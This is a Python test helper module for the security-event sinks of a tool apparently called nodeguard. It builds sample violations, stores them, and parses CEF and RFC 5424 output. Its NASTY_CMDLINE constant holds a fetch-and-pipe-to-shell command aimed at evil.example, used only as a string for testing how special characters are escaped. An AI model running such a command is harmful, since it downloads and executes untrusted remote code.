"""Shared material of the sink tests (imported by the other ``test_sinks_*`` modules):
violations of every kind with hostile strings, a real store filled with them, waits,
and independent parsers of what the sinks write (RFC 5424, structured data, CEF), with
tests of the parsers themselves on hand-written input."""

from __future__ import annotations

import time
import uuid
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from nodeguard.collector.records import Retention, StoredEvent
from nodeguard.collector.sinks.runner import SinkRunner, SinkStats
from nodeguard.collector.store import EventStore
from nodeguard.events.model import (
    EgressDetail,
    ExecDetail,
    LimitDetail,
    PolicyRef,
    ProcessInfo,
    SocketDetail,
    SyscallDetail,
    Violation,
    WorkloadRef,
)
from nodeguard.events.wire import priority_of, to_proto
from nodeguard.proto.nodeguard.v1 import events_pb2 as pb

NODE = "node-a"
CLUSTER = "lab"
T0 = 1_714_564_800_123  # 2024-05-01T12:00:00.123Z

# Every character CEF, RFC 5424 structured data and JSON treat specially, and more.
NASTY_CMDLINE = (
    'sh -c "curl http://evil.example/x|sh" --opt=a=b C:\\temp\\ \\\\share '
    'line1\nline2\r\nend ] [x] "quoted" pipe|pipe tab\there é漢字 \\n literal'
)
NASTY_PATH = '/opt/agent/bin/we|rd=na\\me ]"[ é'
NASTY_NAMESPACE = "agents"  # Kubernetes names are DNS labels: nothing to escape here
NASTY_POD = "research-agent-7d9f"

_POLICY = PolicyRef(name="research-agent", uid="3f1c", version="7", mode="enforce")
_AUDIT_POLICY = PolicyRef(name="trial=policy|x", uid="9a", version="1", mode="audit")
_WORKLOAD = WorkloadRef(
    namespace=NASTY_NAMESPACE,
    pod_name=NASTY_POD,
    pod_uid="a1b2c3",
    pod_labels={"app": "research-agent", "tier": "x=y"},
    container_id="containerd://0123abcd",
    container_name="agent",
    image="ghcr.io/acme/agent:1.2",
    image_id="sha256:feed",
)


def _uid() -> str:
    return str(uuid.uuid4())


def violation(kind: str, n: int = 0, **fields: Any) -> Violation:
    """A violation of ``kind`` (sequence and time from ``n``); ``fields`` override."""
    details: dict[str, dict[str, Any]] = {
        "egress": {"egress": EgressDetail("203.0.113.7", 443, "tcp", 4, "connect4")},
        "exec": {"exec": ExecDetail(NASTY_PATH, truncated=False)},
        "syscall": {"syscall": SyscallDetail("ptrace", 101, "x86_64", "seccomp-kill")},
        "socket": {"socket": SocketDetail("packet", 17, "raw", 3, 768, None, "cgroup-sock-create")},
        "limit": {"limit": LimitDetail("forksPerSecond", 20, 40, 17)},
    }
    base: dict[str, Any] = {
        "uid": _uid(),
        "sequence": n + 1,
        "kind": kind,
        "time_ms": T0 + n,
        "first_time_ms": T0 + n,
        "count": 1,
        "verdict": "blocked",
        "cgroup_id": 4242,
        "process": ProcessInfo(
            pid=1000 + n,
            tid=1000 + n,
            name="python3",
            path="/usr/bin/python3",
            cmd_line=NASTY_CMDLINE,
            ppid=1,
        ),
        "policy": _POLICY,
        "workload": _WORKLOAD,
        "node": NODE,
        **details[kind],
    }
    base.update(fields)
    return Violation(**base)


def every_kind() -> list[Violation]:
    """At least one violation of each kind and verdict, IPv4/IPv6/other protocols, with
    and without a workload, aggregated and single."""
    return [
        violation("egress", 0),
        violation(
            "egress",
            1,
            verdict="audited",
            policy=_AUDIT_POLICY,
            egress=EgressDetail("2001:db8::5", 53, "udp", 6, "sendmsg6"),
        ),
        violation(
            "egress",
            2,
            count=5,
            first_time_ms=T0 - 1000,
            egress=EgressDetail("198.51.100.9", 0, "ip-proto-47", 4, "connect4"),
            workload=None,
        ),
        violation("exec", 3),
        violation("exec", 4, verdict="audited", policy=_AUDIT_POLICY),
        violation("syscall", 5),
        violation("socket", 6),
        violation("limit", 7, verdict="audited", policy=_AUDIT_POLICY),
        violation(
            "limit",
            8,
            limit=LimitDetail("maxProcesses", 50, None, 51),
            workload=None,
            process=ProcessInfo(pid=0, tid=0, name=""),
        ),
    ]


def many(count: int, start: int = 100) -> list[Violation]:
    kinds = ("egress", "exec", "syscall", "socket", "limit")
    return [violation(kinds[i % 5], start + i) for i in range(count)]


_epochs = iter(range(1, 1_000_000))


def insert(store: EventStore, violations: Sequence[Violation], node: str = NODE) -> None:
    """Store ``violations`` as one producer batch (a fresh epoch each call)."""
    records = [
        pb.Record(seq=i + 1, priority=priority_of(v), violation=to_proto(v))  # type: ignore[arg-type]
        for i, v in enumerate(violations)
    ]
    epoch = next(_epochs)
    for start in range(0, len(records), 5000):
        result = store.insert(node, epoch, records[start : start + 5000])
        assert result.rejected == 0, result.reject_reason


@contextmanager
def open_store(path: Path, retention: Retention | None = None) -> Iterator[EventStore]:
    store = EventStore(path, retention or Retention(max_age_s=None, max_events=None), durable=False)
    try:
        yield store
    finally:
        store.close()


@contextmanager
def running(*runners: SinkRunner) -> Iterator[None]:
    for runner in runners:
        runner.start()
    try:
        yield
    finally:
        for runner in runners:
            runner.stop()


def wait_for(
    condition: Callable[[], bool], what: str, timeout_s: float = 30.0, *, detail: Any = None
) -> None:
    """Poll ``condition`` until it holds (generous bound, no timing assert)."""
    deadline = time.monotonic() + timeout_s
    while not condition():
        if time.monotonic() > deadline:
            extra = detail() if callable(detail) else detail
            raise AssertionError(f"timed out waiting for {what}: {extra}")
        time.sleep(0.02)


def wait_delivered(runner: SinkRunner, store: EventStore, timeout_s: float = 30.0) -> SinkStats:
    """Until the runner's cursor reached the newest stored event."""
    last = store.last_rowid()
    wait_for(
        lambda: store.cursor(runner.cursor_name) >= last and runner.stats().lag == 0,
        f"sink {runner.name} to deliver up to rowid {last}",
        timeout_s,
        detail=runner.stats,
    )
    return runner.stats()


def stored(store: EventStore) -> list[StoredEvent]:
    return store.read_after(0, 1_000_000)


# --------------------------------------------------------------------- parsers --


def parse_cef(text: str) -> tuple[list[str], dict[str, str]]:
    """(7 header fields, extension) of a CEF:0 payload, unescaped."""
    assert text.startswith("CEF:0|"), text[:40]
    header: list[str] = []
    current = ""
    i = 0
    while len(header) < 7:
        c = text[i]
        if c == "\\":
            current += text[i + 1]
            i += 2
            continue
        if c == "|":
            header.append(current)
            current = ""
        else:
            current += c
        i += 1
    return header, parse_extension(text[i:])


def parse_extension(text: str) -> dict[str, str]:
    """``k=v k2=v2`` with ``\\=``, ``\\\\``, ``\\n``, ``\\r`` escapes; a key starts where a
    space is followed by ``word=`` (an unescaped ``=``)."""
    out: dict[str, str] = {}
    key: str | None = None
    value = ""
    token = ""
    i = 0
    escapes = {"n": "\n", "r": "\r", "=": "=", "\\": "\\"}

    def start_of_key(at: int) -> int | None:
        j = at
        while j < len(text) and (text[j].isalnum() or text[j] == "_"):
            j += 1
        return j if j > at and j < len(text) and text[j] == "=" else None

    while i < len(text):
        if key is None:
            end = start_of_key(i)
            assert end is not None, text[i : i + 40]
            key, i, value = text[i:end], end + 1, ""
            continue
        c = text[i]
        if c == "\\":
            nxt = text[i + 1]
            assert nxt in escapes, f"undefined escape \\{nxt} in {text[i - 20 : i + 20]!r}"
            value += escapes[nxt]
            i += 2
            continue
        assert c != "=", f"unescaped '=' in value of {key}: {text[i - 20 : i + 20]!r}"
        if c == " " and start_of_key(i + 1) is not None:
            out[key] = value
            key = None
            i += 1
            continue
        value += c
        i += 1
    if key is not None:
        out[key] = value
    del token
    return out


def parse_sd(text: str) -> tuple[str, dict[str, str]]:
    """One SD element ``[ID k="v" ...]`` -> (ID, params), values unescaped."""
    assert text.startswith("[") and text.endswith("]"), text
    body = text[1:-1]
    sd_id, _, rest = body.partition(" ")
    params: dict[str, str] = {}
    i = 0
    while i < len(rest):
        eq = rest.index("=", i)
        name = rest[i:eq]
        assert rest[eq + 1] == '"'
        j = eq + 2
        value = ""
        while rest[j] != '"':
            if rest[j] == "\\" and rest[j + 1] in '"\\]':
                value += rest[j + 1]
                j += 2
            else:
                assert rest[j] != "]", "unescaped ']' in an SD value"
                value += rest[j]
                j += 1
        params[name] = value
        i = j + 2  # closing quote and the space
    return sd_id, params


def parse_rfc5424(raw: str) -> dict[str, str]:
    """The header fields, the SD element and MSG of one RFC 5424 message."""
    assert raw.startswith("<"), raw[:20]
    pri, _, rest = raw[1:].partition(">")
    version, timestamp, hostname, app, procid, msgid, rest = rest.split(" ", 6)
    if rest.startswith("-"):
        sd, msg = "-", rest[2:]
    else:  # one element: find its unescaped closing bracket
        i, escaped = 0, False
        while True:
            c = rest[i]
            if escaped:
                escaped = False
            elif c == "\\":
                escaped = True
            elif c == "]":
                break
            i += 1
        sd, msg = rest[: i + 1], rest[i + 2 :]
    return {
        "pri": pri,
        "version": version,
        "timestamp": timestamp,
        "hostname": hostname,
        "app_name": app,
        "procid": procid,
        "msgid": msgid,
        "sd": sd,
        "msg": msg,
    }


# ----------------------------------------------------------------------- tests --


def test_samples_cover_every_kind_and_verdict() -> None:
    samples = every_kind()
    assert {v.kind for v in samples} == {"egress", "exec", "syscall", "socket", "limit"}
    assert {v.verdict for v in samples} == {"blocked", "audited"}


def test_samples_round_trip_through_a_real_store(tmp_path: Path) -> None:
    samples = every_kind()
    with open_store(tmp_path / "events.db") as store:
        insert(store, samples)
        got = [e.violation for e in stored(store)]
    assert got == samples


def test_parse_cef_on_hand_written_payload() -> None:
    header, ext = parse_cef(
        r"CEF:0|ven\|dor|prod\\uct|1.0|sig|Name with \| pipe|5|"
        r"act=blocked cs6=a\=b c\\d\nnext | x msg=hello world cs6Label=cmdLine"
    )
    assert header == ["CEF:0", "ven|dor", "prod\\uct", "1.0", "sig", "Name with | pipe", "5"]
    assert ext == {
        "act": "blocked",
        "cs6": "a=b c\\d\nnext | x",
        "msg": "hello world",
        "cs6Label": "cmdLine",
    }


def test_parse_rfc5424_and_sd_on_hand_written_message() -> None:
    msg = parse_rfc5424(
        '<84>1 2024-05-01T12:00:00.123Z host app - egress [id@1 a="x\\"y\\]z" b="2"] body ] x'
    )
    assert msg["pri"] == "84" and msg["hostname"] == "host" and msg["msgid"] == "egress"
    assert msg["msg"] == "body ] x"
    assert parse_sd(msg["sd"]) == ("id@1", {"a": 'x"y]z', "b": "2"})
